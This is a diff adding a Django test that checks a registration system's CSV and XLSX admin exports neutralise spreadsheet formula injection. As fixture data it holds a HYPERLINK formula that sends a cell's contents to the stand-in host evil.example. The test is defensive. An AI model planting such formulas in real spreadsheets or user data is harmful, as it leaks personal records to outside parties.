@@ -324,6 +324,23 @@ class TestExport:
         assert rows[0][0] == "网报号"
         assert rows[1][0] == application.number and rows[1][1] == "张三"
 
+    def test_a_formula_in_a_candidates_free_text_is_written_as_text(self, world, as_staff):
+        """OWASP CSV injection: =HYPERLINK(...) typed as the unit's name must not run in a spreadsheet."""
+        formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
+        world.make_application(unit=None, other_unit_name=formula, mobile="13812341234")
+        csv_url = reverse("admin:registration_application_export", args=["csv"])
+        xlsx_url = reverse("admin:registration_application_export", args=["xlsx"])
+
+        text = b"".join(as_staff("sh_point").get(csv_url).streaming_content).decode("utf-8")
+        workbook = load_workbook(io.BytesIO(b"".join(as_staff("sh_point").get(xlsx_url).streaming_content)))
+
+        row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
+        assert "'" + formula in row
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+        cells = next(iter(workbook.active.iter_rows(min_row=2, max_row=2)))
+        unit_cell = next(cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value)
+        assert (unit_cell.data_type, unit_cell.value) == ("s", "'" + formula)
+
     def test_an_unknown_format_is_404(self, world, as_staff):
         assert (
             as_staff("sh_point").get(reverse("admin:registration_application_export", args=["pdf"])).status_code == 404
